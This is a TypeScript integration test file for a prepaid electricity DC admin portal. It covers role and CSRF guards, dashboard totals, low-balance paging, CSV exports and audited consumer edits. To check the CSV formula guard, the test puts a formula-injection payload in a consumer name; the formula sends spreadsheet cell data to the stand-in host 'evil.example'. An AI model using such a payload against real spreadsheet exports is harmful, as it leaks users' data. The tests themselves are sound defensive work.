import request from 'supertest'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DC_LOW_BALANCE_PAISE, DC_PAGE_SIZE, type DcDashboard } from '../../shared/admin/contract'
import { addDays, indiaDayStart, indiaToday } from '../../shared/time'
import { DC_MESSAGES } from '../../server/services/admin/prepaidPortal'
import { csvCell, csvRupees, toCsv } from '../../server/lib/csv'
import { decodeVendedToken } from '../../server/services/prepaid/vending'
import { adminAgent, SAME_ORIGIN, type AdminAgent } from '../helpers/admin'
import { createTestApp, type TestApp } from '../helpers/app'
import { TEST_DB } from '../helpers/db'
import { createOrder, ledgerRows, sandboxPost } from './payments-helpers'

type Row = Record<string, unknown>

const KEYPAD = '103000000003'
const SMART = '104000000004'
const SMART2 = '105000000006'

/**
 * The prepaid DC portal over HTTP (issue 11 §2), on both databases with the demo data: the
 * guard of every call (dc_operator yes; content_editor 403; no session 401; missing or wrong
 * CSRF token 403), the dashboard's figures against the rows (a recharge made today moves the
 * totals of its division and the overall ones; yesterday's in India does not), the filters and
 * pages, the CSV files (attachment, escaping, formula guard), and the consumer master: search,
 * edit with its audit row in the same transaction, every refusal, and a token vended with the
 * key revision set here.
 */
describe(`prepaid DC portal: /api/admin/dc (${TEST_DB})`, () => {
  let t: TestApp
  let dc: AdminAgent
  let editor: AdminAgent
  const db = () => t.testDb.db

  beforeAll(async () => {
    t = await createTestApp({ seed: true, env: { ADMIN_BCRYPT_COST: '4', AUTH_IP_LIMIT: '1000' } })
    dc = await adminAgent(t, 'dc.test', ['dc_operator'])
    editor = await adminAgent(t, 'editor.test', ['content_editor'])
  })
  afterAll(async () => t.close())

  const dashboard = async (query = ''): Promise<DcDashboard> => {
    const res = await dc.get(`/api/admin/dc/dashboard${query}`)
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    return res.body as DcDashboard
  }
  const consumerId = async (consumerNo: string) => Number((await db()('consumers').first('id').where('consumer_no', consumerNo)).id)
  const meterOf = async (consumerNo: string) =>
    db()('prepaid_meters')
      .first('id', 'meter_no', 'balance', 'key_revision')
      .where('consumer_id', await consumerId(consumerNo))
  let seq = 0
  const addRecharge = async (consumerNo: string, amount: number, at: string) => {
    const m = await meterOf(consumerNo)
    seq++
    await db()('recharges').insert({
      receipt_no: `TDC${seq}${Date.now()}`,
      consumer_id: await consumerId(consumerNo),
      meter_id: m.id,
      amount,
      token: null,
      recharged_at: at,
      channel: 'COUNTER',
      txn_id: `TDCTXN${seq}${Date.now()}`,
    })
  }
  const auditRows = (consumerNo: string) => db()('audit_log').where({ entity: 'consumer', entity_id: consumerNo }).orderBy('id')

  describe('the guard', () => {
    it('no session 401, a content editor 403, a DC operator 200 on every read', async () => {
      for (const path of ['/api/admin/dc/dashboard', '/api/admin/dc/low-balance.csv', `/api/admin/dc/consumers?q=${KEYPAD}`, `/api/admin/dc/consumers/${KEYPAD}`]) {
        await request(t.app).get(path).expect(401)
        await editor.get(path).expect(403)
        await dc.get(path).expect(200)
      }
    })

    it('an edit needs the session (401), the role (403) and the CSRF token (403 without it or with a wrong one)', async () => {
      const m = await meterOf(KEYPAD)
      const body = { meterNo: m.meter_no, keyRevision: 3, tariffCategory: 'LT-II', status: 'ACTIVE' }
      const path = `/api/admin/dc/consumers/${KEYPAD}`
      await request(t.app).put(path).set(SAME_ORIGIN).send(body).expect(401)
      await editor.put(path, body).expect(403)
      await request(t.app).put(path).set(SAME_ORIGIN).set('Cookie', dc.cookie).send(body).expect(403)
      await request(t.app).put(path).set(SAME_ORIGIN).set('Cookie', dc.cookie).set('X-CSRF-Token', 'x'.repeat(dc.csrf.length)).send(body).expect(403)
      expect((await meterOf(KEYPAD)).key_revision).toBe(1)
      expect(await auditRows(KEYPAD)).toHaveLength(0)
    })
  })

  describe('the dashboard', () => {
    it('counts the prepaid consumers and sums their balances by division, as the rows say', async () => {
      const d = await dashboard()
      expect(d.today).toBe(indiaToday())
      const rows: Row[] = await db()('consumers as c')
        .leftJoin('prepaid_meters as m', 'm.consumer_id', 'c.id')
        .whereIn('c.conn_type', ['PREPAID', 'SMART PREPAID'])
        .select('c.division_code', 'c.conn_type', 'm.balance')
      expect(d.totals.consumers).toBe(rows.length)
      expect(d.totals.consumers).toBe(3)
      expect(d.totals.keypad).toBe(1)
      expect(d.totals.smart).toBe(2)
      expect(d.totals.balancePaise).toBe(rows.reduce((s, r) => s + Number(r.balance ?? 0), 0))
      expect(d.byDivision.rows.map((r) => r.code)).toEqual(['103', '104', '105'])
      for (const r of d.byDivision.rows) {
        const mine = rows.filter((x) => x.division_code === r.code)
        expect(r.consumers).toBe(mine.length)
        expect(r.balancePaise).toBe(mine.reduce((s, x) => s + Number(x.balance ?? 0), 0))
        const div = await db()('divisions').first('name', 'circle').where('code', r.code)
        expect(r).toMatchObject({ name: div.name, circle: div.circle })
      }
      expect(d.divisionChoices.map((c) => c.code)).toEqual(['103', '104', '105'])
      expect(d.filter).toMatchObject({ division: null, connType: null, thresholdPaise: DC_LOW_BALANCE_PAISE })
    })

    it("today's recharges: one made today moves its division's and the overall count and total; yesterday's (India date) does not", async () => {
      const before = await dashboard()
      const div = (d: DcDashboard, code: string) => d.byDivision.rows.find((r) => r.code === code)!
      const today = indiaToday()
      // the first instant of today in India counts, the last of yesterday does not
      await addRecharge(SMART, 12_345, indiaDayStart(today))
      await addRecharge(SMART, 50_000, new Date(Date.parse(indiaDayStart(today)) - 1).toISOString())
      await addRecharge(KEYPAD, 20_000, new Date().toISOString())
      await addRecharge(SMART, 7_700, indiaDayStart(addDays(today, 1)))
      const after = await dashboard()
      expect(after.totals.rechargesToday).toBe(before.totals.rechargesToday + 2)
      expect(after.totals.rechargedTodayPaise).toBe(before.totals.rechargedTodayPaise + 32_345)
      expect(div(after, '104').rechargesToday).toBe(div(before, '104').rechargesToday + 1)
      expect(div(after, '104').rechargedTodayPaise).toBe(div(before, '104').rechargedTodayPaise + 12_345)
      expect(div(after, '103').rechargedTodayPaise).toBe(div(before, '103').rechargedTodayPaise + 20_000)
      expect(div(after, '105')).toEqual(div(before, '105'))
      // the list: newest first, with the consumer, the meter and the amount
      expect(after.recharges.total).toBe(after.totals.rechargesToday)
      expect(after.recharges.rows.map((r) => [r.consumerNo, r.amountPaise])).toEqual(
        expect.arrayContaining([
          [KEYPAD, 20_000],
          [SMART, 12_345],
        ]),
      )
      expect(after.recharges.rows[0]).toMatchObject({ consumerNo: KEYPAD, amountPaise: 20_000, meterNo: '04000000003', connType: 'PREPAID', divisionCode: '103', channel: 'COUNTER' })
      // the division filter narrows the figures and the lists
      const only104 = await dashboard('?division=104')
      expect(only104.byDivision.rows.map((r) => r.code)).toEqual(['104'])
      expect(only104.totals.rechargesToday).toBe(div(after, '104').rechargesToday)
      expect(only104.recharges.rows.every((r) => r.divisionCode === '104')).toBe(true)
    })

    it('the low-balance list: ACTIVE connections below the threshold, lowest first; the threshold, type and division filters', async () => {
      const smart2 = await consumerId(SMART2)
      const keypad = await consumerId(KEYPAD)
      const saved = [await meterOf(SMART2), await meterOf(KEYPAD)]
      await db()('prepaid_meters').where('consumer_id', smart2).update({ balance: -2_500 })
      await db()('prepaid_meters').where('consumer_id', keypad).update({ balance: 9_999 })
      try {
        const d = await dashboard()
        expect(d.lowBalance.rows.map((r) => [r.consumerNo, r.balancePaise])).toEqual([
          [SMART2, -2_500],
          [KEYPAD, 9_999],
        ])
        expect(d.totals.lowBalance).toBe(2)
        expect(d.byDivision.rows.find((r) => r.code === '105')!.lowBalance).toBe(1)
        // a higher threshold takes more in; 0 only the negative one
        const t0 = await dashboard('?threshold=0')
        expect(t0.lowBalance.rows.map((r) => r.consumerNo)).toEqual([SMART2])
        expect(t0.filter.thresholdPaise).toBe(0)
        expect((await dashboard('?type=keypad')).lowBalance.rows.map((r) => r.consumerNo)).toEqual([KEYPAD])
        expect((await dashboard('?type=smart')).byDivision.rows.map((r) => r.code)).toEqual(['104', '105'])
        expect((await dashboard('?division=105')).lowBalance.rows.map((r) => r.consumerNo)).toEqual([SMART2])
        // a disconnected connection is not on the list
        await db()('consumers').where('id', smart2).update({ status: 'DISCONNECTED' })
        expect((await dashboard()).lowBalance.rows.map((r) => r.consumerNo)).toEqual([KEYPAD])
      } finally {
        await db()('consumers').where('id', smart2).update({ status: 'ACTIVE' })
        await db()('prepaid_meters').where('consumer_id', smart2).update({ balance: saved[0].balance })
        await db()('prepaid_meters').where('consumer_id', keypad).update({ balance: saved[1].balance })
      }
    })

    it('pages a long low-balance list', async () => {
      const n = DC_PAGE_SIZE + 5
      const ids: number[] = []
      for (let i = 0; i < n; i++) {
        const consumerNo = `104${String(900_000 + i).padStart(9, '0')}`
        const [row] = await db()('consumers')
          .insert({
            consumer_no: consumerNo,
            name: `Low Balance ${i}`,
            address: 'Tezpur',
            conn_type: 'SMART PREPAID',
            tariff_category: 'LT-II',
            connected_load_kw: 1,
            phase: 1,
            meter_no: `SMT${consumerNo.slice(3)}`,
            status: 'ACTIVE',
            division_code: '104',
          })
          .returning('id')
        const id = Number(typeof row === 'object' ? row.id : row)
        ids.push(id)
        await db()('prepaid_meters').insert({ consumer_id: id, meter_no: `SMT${consumerNo.slice(3)}`, balance: 100 + i, updated_at: new Date().toISOString() })
      }
      try {
        const first = await dashboard('?division=104')
        expect(first.lowBalance.total).toBe(n)
        expect(first.lowBalance.rows).toHaveLength(DC_PAGE_SIZE)
        expect(first.lowBalance.rows[0].balancePaise).toBe(100)
        const second = await dashboard('?division=104&page=2')
        expect(second.lowBalance.page).toBe(2)
        expect(second.lowBalance.rows.map((r) => r.balancePaise)).toEqual([125, 126, 127, 128, 129])
        // past the last page: the last page
        expect((await dashboard('?division=104&page=99')).lowBalance.page).toBe(2)
        const csv = await dc.get('/api/admin/dc/low-balance.csv?division=104').expect(200)
        expect(csv.text.trim().split('\r\n')).toHaveLength(n + 1)
      } finally {
        await db()('prepaid_meters').whereIn('consumer_id', ids).delete()
        await db()('consumers').whereIn('id', ids).delete()
      }
    })

    it('refuses a wrong filter with 400 and the field', async () => {
      for (const [query, path, message] of [
        ['?threshold=abc', 'threshold', DC_MESSAGES.threshold],
        ['?threshold=100001', 'threshold', DC_MESSAGES.threshold],
        ['?division=1x', 'division', DC_MESSAGES.division],
        ['?type=postpaid', 'type', DC_MESSAGES.type],
        ['?page=0', 'page', DC_MESSAGES.page],
        ['?rpage=-1', 'rpage', DC_MESSAGES.page],
      ] as const) {
        const res = await dc.get(`/api/admin/dc/dashboard${query}`).expect(400)
        expect(res.body.message).toBe(message)
        expect(res.body.errors).toEqual([expect.objectContaining({ path, message })])
      }
      await dc.get('/api/admin/dc/recharges-today.csv?type=x').expect(400)
      await dc.get('/api/admin/dc/other.csv').expect(404)
    })
  })

  describe('the CSV files', () => {
    it('escape per RFC 4180 and put an apostrophe before a text cell that begins like a formula', () => {
      expect(csvCell('plain')).toBe('plain')
      expect(csvCell('Das, "Babu"')).toBe('"Das, ""Babu"""')
      expect(csvCell('two\nlines')).toBe('"two\nlines"')
      expect(csvCell('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`)
      for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx']) expect(csvCell(s).replace(/^"/, '')).toMatch(/^'/)
      expect(csvCell(csvRupees(-250))).toBe('-2.50')
      expect(csvCell(null)).toBe('')
      expect(toCsv(['a', 'b'], [['1', '2']])).toBe('\ufeffa,b\r\n1,2\r\n')
    })

    it('the three lists as attachments, with the figures of the dashboard and names guarded', async () => {
      const smart2 = await consumerId(SMART2)
      const keypad = await consumerId(KEYPAD)
      const saved = { names: await db()('consumers').whereIn('id', [smart2, keypad]).select('id', 'name'), meters: [await meterOf(SMART2), await meterOf(KEYPAD)] }
      await db()('consumers').where('id', smart2).update({ name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' })
      await db()('consumers').where('id', keypad).update({ name: 'Ahmed, "Karim"' })
      await db()('prepaid_meters').where('consumer_id', smart2).update({ balance: -150 })
      await db()('prepaid_meters').where('consumer_id', keypad).update({ balance: 5_005 })
      try {
        const low = await dc.get('/api/admin/dc/low-balance.csv').expect(200)
        expect(low.headers['content-type']).toBe('text/csv; charset=utf-8')
        expect(low.headers['content-disposition']).toBe(`attachment; filename="prepaid-low-balance-${indiaToday()}.csv"`)
        expect(low.headers['cache-control']).toBe('no-store')
        const lines = low.text.split('\r\n')
        expect(lines[0]).toBe('\ufeffConsumer number,Name,Meter type,Division code,Division,Meter number,"Balance (Rs, below 100.00)",Balance as of (India time)')
        expect(lines[1]).toMatch(new RegExp(`^${SMART2},"'=HYPERLINK\\(""http://evil\\.example/\\?""&A1,""Click""\\)",Smart,105,[^,]+,SM000000006,-1\\.50,\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}$`))
        expect(lines[2]).toMatch(new RegExp(`^${KEYPAD},"Ahmed, ""Karim""",Keypad \\(STS\\),103,[^,]+,04000000003,50\\.05,`))
        expect(lines).toHaveLength(4)
        expect(lines[3]).toBe('')

        const d = await dashboard()
        const divs = (await dc.get('/api/admin/dc/divisions.csv').expect(200)).text.split('\r\n')
        expect(divs[0]).toMatch(/^\ufeffDivision code,Division,Circle,Prepaid consumers,/)
        expect(divs).toHaveLength(d.byDivision.total + 3)
        const total = divs[d.byDivision.total + 1].split(',')
        expect(total.slice(0, 2)).toEqual(['ALL', 'All divisions'])
        expect(Number(total[3])).toBe(d.totals.consumers)
        expect(total[7]).toBe(csvRupees(d.totals.balancePaise).figure)
        expect(Number(total[8])).toBe(2)
        expect(Number(total[9])).toBe(d.totals.rechargesToday)
        expect(total[10]).toBe(csvRupees(d.totals.rechargedTodayPaise).figure)

        const rech = await dc.get('/api/admin/dc/recharges-today.csv?division=103').expect(200)
        expect(rech.headers['content-disposition']).toMatch(/^attachment; filename="prepaid-recharges-\d{4}-\d{2}-\d{2}\.csv"$/)
        const rl = rech.text.split('\r\n')
        expect(rl[0]).toBe('\ufeffReceipt number,Consumer number,Name,Meter type,Division code,Meter number,Amount (Rs),Time (India),Channel')
        expect(rl.slice(1, -1).every((l) => l.includes(`,${KEYPAD},"Ahmed, ""Karim""",Keypad (STS),103,04000000003,`))).toBe(true)
        expect(rl.slice(1, -1).some((l) => l.includes(',200.00,'))).toBe(true)
      } finally {
        for (const r of saved.names as Row[])
          await db()('consumers')
            .where('id', Number(r.id))
            .update({ name: String(r.name) })
        await db()('prepaid_meters').where('consumer_id', smart2).update({ balance: saved.meters[0].balance })
        await db()('prepaid_meters').where('consumer_id', keypad).update({ balance: saved.meters[1].balance })
      }
    })
  })

  describe('the consumer master', () => {
    it('finds prepaid consumers by consumer number or meter number (or their beginning); says when a number is not prepaid', async () => {
      const by = async (q: string) => (await dc.get(`/api/admin/dc/consumers?q=${encodeURIComponent(q)}`).expect(200)).body
      expect((await by(KEYPAD)).consumers.map((c: Row) => c.consumerNo)).toEqual([KEYPAD])
      expect((await by('04000000003')).consumers.map((c: Row) => c.consumerNo)).toEqual([KEYPAD])
      expect((await by('sm 0000-00004')).consumers.map((c: Row) => c.consumerNo)).toEqual([SMART])
      expect((await by('SM0000')).consumers.map((c: Row) => c.consumerNo)).toEqual([SMART, SMART2])
      const one = (await by(KEYPAD)).consumers[0]
      expect(one).toMatchObject({ consumerNo: KEYPAD, connType: 'PREPAID', status: 'ACTIVE', tariffCategory: 'LT-II', divisionCode: '103', meterNo: '04000000003', hasMeter: true, keyRevision: 1 })
      const postpaid = await by('101000000001')
      expect(postpaid).toEqual({ q: '101000000001', consumers: [], notPrepaid: { consumerNo: '101000000001', connType: 'POSTPAID' } })
      expect((await by('999999999999')).consumers).toEqual([])
      for (const q of ['ab', '', '<script>']) {
        const res = await dc.get(`/api/admin/dc/consumers?q=${encodeURIComponent(q)}`).expect(400)
        expect(res.body.errors[0]).toMatchObject({ path: 'q', message: DC_MESSAGES.search })
      }
      await dc.get('/api/admin/dc/consumers').expect(400)
      const detail = await dc.get(`/api/admin/dc/consumers/${SMART}`).expect(200)
      expect(detail.body.consumer).toMatchObject({ consumerNo: SMART, connType: 'SMART PREPAID', meterNo: 'SM000000004' })
      expect(detail.body.tariffs.map((x: Row) => x.code)).toContain('LT-II')
      await dc.get('/api/admin/dc/consumers/101000000001').expect(404)
      await dc.get('/api/admin/dc/consumers/999999999999').expect(404)
      await dc.get('/api/admin/dc/consumers/12ab').expect(404)
    })

    it('edits the key revision: saved on the meter, one audit row with before and after; the next token is made with it', async () => {
      const path = `/api/admin/dc/consumers/${KEYPAD}`
      const res = await dc.put(path, { meterNo: '04000000003', keyRevision: '2', tariffCategory: 'LT-II', status: 'ACTIVE' }).expect(200)
      expect(res.body).toMatchObject({ status: 'success', changed: ['keyRevision'], consumer: { consumerNo: KEYPAD, keyRevision: 2, meterNo: '04000000003' } })
      expect((await meterOf(KEYPAD)).key_revision).toBe(2)
      const rows = await auditRows(KEYPAD)
      expect(rows).toHaveLength(1)
      expect(rows[0]).toMatchObject({ actor: 'dc.test', action: 'prepaid.consumer.update', entity: 'consumer', entity_id: KEYPAD })
      expect(JSON.parse(rows[0].before_json)).toEqual({ meterNo: '04000000003', keyRevision: 1, tariffCategory: 'LT-II', status: 'ACTIVE' })
      expect(JSON.parse(rows[0].after_json)).toEqual({ meterNo: '04000000003', keyRevision: 2, tariffCategory: 'LT-II', status: 'ACTIVE' })

      // a recharge now vends under key revision 2 (and the reprint diagnostics decode it so)
      const orderId = await createOrder(t, { purpose: 'recharge', consumerNo: KEYPAD, amountPaise: 10_000 })
      expect((await sandboxPost(t, orderId, 'pay')).status).toBe(303)
      const [r] = (await ledgerRows(t, orderId)).recharges
      expect(r.key_revision).toBe(2)
      expect(decodeVendedToken(r.token, '04000000003', t.config.stsVendingKey, 2).kWh).toBeGreaterThan(0)
      expect(() => decodeVendedToken(r.token, '04000000003', t.config.stsVendingKey, 1)).toThrow()
      const listed = (await t.services.prepaid.recharges(KEYPAD, 1))[0]
      expect(listed).toMatchObject({ txnId: orderId, keyRevision: 2 })
      expect(t.services.vending.tokenDiagnostics(listed.token!, listed.meterNo, listed.keyRevision).ok).toBe(true)
      // the seeded tokens (made before, key revision 1) still decode
      const old = (await t.services.prepaid.recharges(KEYPAD, 50)).find((x) => x.token && x.keyRevision === undefined)!
      expect(t.services.vending.tokenDiagnostics(old.token!, old.meterNo, old.keyRevision).ok).toBe(true)

      // saving the same values again changes nothing and records nothing
      const same = await dc.put(path, { meterNo: '04000000003', keyRevision: 2, tariffCategory: 'LT-II', status: 'ACTIVE' }).expect(200)
      expect(same.body.changed).toEqual([])
      expect(await auditRows(KEYPAD)).toHaveLength(1)
      // back to 1
      await dc.put(path, { meterNo: '04000000003', keyRevision: 1, tariffCategory: 'LT-II', status: 'ACTIVE' }).expect(200)
      expect((await meterOf(KEYPAD)).key_revision).toBe(1)
      expect(await auditRows(KEYPAD)).toHaveLength(2)
    })

    it('edits the meter number (consumer and meter alike), the tariff and the status of a smart meter', async () => {
      const path = `/api/admin/dc/consumers/${SMART2}`
      const res = await dc.put(path, { meterNo: ' sm-77 000 0006 ', keyRevision: 1, tariffCategory: 'LT-IV', status: 'DISCONNECTED' }).expect(200)
      expect(res.body.changed).toEqual(['meterNo', 'tariffCategory', 'status'])
      expect(res.body.consumer).toMatchObject({ meterNo: 'SM770000006', tariffCategory: 'LT-IV', status: 'DISCONNECTED' })
      expect(await db()('consumers').first('meter_no', 'tariff_category', 'status').where('consumer_no', SMART2)).toEqual({ meter_no: 'SM770000006', tariff_category: 'LT-IV', status: 'DISCONNECTED' })
      expect((await meterOf(SMART2)).meter_no).toBe('SM770000006')
      const [row] = (await auditRows(SMART2)).slice(-1)
      expect(JSON.parse(row.before_json)).toMatchObject({ meterNo: 'SM000000006', tariffCategory: 'LT-II', status: 'ACTIVE' })
      expect(JSON.parse(row.after_json)).toMatchObject({ meterNo: 'SM770000006', tariffCategory: 'LT-IV', status: 'DISCONNECTED' })
      await dc.put(path, { meterNo: 'SM000000006', keyRevision: 1, tariffCategory: 'LT-II', status: 'ACTIVE' }).expect(200)
      expect(await db()('consumers').first('meter_no', 'status').where('consumer_no', SMART2)).toEqual({ meter_no: 'SM000000006', status: 'ACTIVE' })
    })

    it("refuses bad input with 400 and the field, another consumer's meter with 409, an unknown or postpaid consumer with 404; nothing written", async () => {
      const path = `/api/admin/dc/consumers/${KEYPAD}`
      const good = { meterNo: '04000000003', keyRevision: 1, tariffCategory: 'LT-II', status: 'ACTIVE' }
      const auditBefore = (await auditRows(KEYPAD)).length
      const cases: Array<[Record<string, unknown>, string, string]> = [
        [{ ...good, keyRevision: 0 }, 'keyRevision', DC_MESSAGES.keyRevision],
        [{ ...good, keyRevision: 10 }, 'keyRevision', DC_MESSAGES.keyRevision],
        [{ ...good, keyRevision: 1.5 }, 'keyRevision', DC_MESSAGES.keyRevision],
        [{ ...good, keyRevision: 'two' }, 'keyRevision', DC_MESSAGES.keyRevision],
        [{ ...good, keyRevision: null }, 'keyRevision', DC_MESSAGES.keyRevision],
        [{ ...good, meterNo: '' }, 'meterNo', DC_MESSAGES.meterNoEmpty],
        [{ ...good, meterNo: '0400000000' }, 'meterNo', DC_MESSAGES.keypadMeterNo],
        [{ ...good, meterNo: '04ABCDEFGHI' }, 'meterNo', DC_MESSAGES.keypadMeterNo],
        [{ ...good, meterNo: '040000000031' }, 'meterNo', DC_MESSAGES.keypadMeterNo],
        [{ ...good, tariffCategory: 'NOPE' }, 'tariffCategory', DC_MESSAGES.tariff],
        [{ ...good, status: 'SUSPENDED' }, 'status', DC_MESSAGES.status],
        [{ ...good, status: undefined }, 'status', DC_MESSAGES.status],
      ]
      for (const [body, field, message] of cases) {
        const res = await dc.put(path, body).expect(400)
        expect(res.body.errors, JSON.stringify(body)).toEqual(expect.arrayContaining([expect.objectContaining({ path: field, message })]))
      }
      const smartBad = await dc.put(`/api/admin/dc/consumers/${SMART}`, { ...good, meterNo: 'SM<1>' }).expect(400)
      expect(smartBad.body.errors[0]).toMatchObject({ path: 'meterNo', message: DC_MESSAGES.smartMeterNo })
      // another consumer's meter number: 409 on the field
      const taken = await dc.put(`/api/admin/dc/consumers/${SMART2}`, { ...good, meterNo: 'sm000000004' }).expect(409)
      expect(taken.body.errors[0]).toMatchObject({ path: 'meterNo', message: `Meter number SM000000004 is already registered to consumer number ${SMART}.` })
      // a postpaid consumer's meter number too
      await dc.put(`/api/admin/dc/consumers/${SMART2}`, { ...good, meterNo: 'AP000000001' }).expect(409)
      await dc.put('/api/admin/dc/consumers/101000000001', good).expect(404)
      await dc.put('/api/admin/dc/consumers/999999999999', good).expect(404)
      await dc.put('/api/admin/dc/consumers/x', good).expect(404)
      // a body that is not JSON
      await request(t.app).put(path).set(SAME_ORIGIN).set('Cookie', dc.cookie).set('X-CSRF-Token', dc.csrf).set('Content-Type', 'application/json').send('{"meterNo":').expect(400)
      expect((await auditRows(KEYPAD)).length).toBe(auditBefore)
      expect(await meterOf(KEYPAD)).toMatchObject({ meter_no: '04000000003', key_revision: 1 })
      expect(await db()('consumers').first('meter_no', 'status').where('consumer_no', SMART2)).toEqual({ meter_no: 'SM000000006', status: 'ACTIVE' })
    })

    it('registers a prepaid meter for a prepaid consumer that has none, in the same audited write', async () => {
      const consumerNo = '104000800001'
      const [row] = await db()('consumers')
        .insert({
          consumer_no: consumerNo,
          name: 'No Meter Yet',
          address: 'Tezpur',
          conn_type: 'PREPAID',
          tariff_category: 'LT-II',
          connected_load_kw: 1,
          phase: 1,
          meter_no: null,
          status: 'ACTIVE',
          division_code: '104',
        })
        .returning('id')
      const id = Number(typeof row === 'object' ? row.id : row)
      const before = (await dc.get(`/api/admin/dc/consumers/${consumerNo}`).expect(200)).body.consumer
      expect(before).toMatchObject({ hasMeter: false, meterNo: null, keyRevision: null, balancePaise: null })
      const res = await dc.put(`/api/admin/dc/consumers/${consumerNo}`, { meterNo: '0480000000123', keyRevision: 4, tariffCategory: 'LT-II', status: 'ACTIVE' }).expect(200)
      expect(res.body.consumer).toMatchObject({ hasMeter: true, meterNo: '0480000000123', keyRevision: 4, balancePaise: 0 })
      expect(await db()('prepaid_meters').first('meter_no', 'key_revision', 'balance').where('consumer_id', id)).toEqual({ meter_no: '0480000000123', key_revision: 4, balance: 0 })
      const [audit] = await auditRows(consumerNo)
      expect(JSON.parse(audit.before_json)).toEqual({ meterNo: null, keyRevision: null, tariffCategory: 'LT-II', status: 'ACTIVE' })
      await db()('prepaid_meters').where('consumer_id', id).delete()
      await db()('consumers').where('id', id).delete()
    })
  })
})
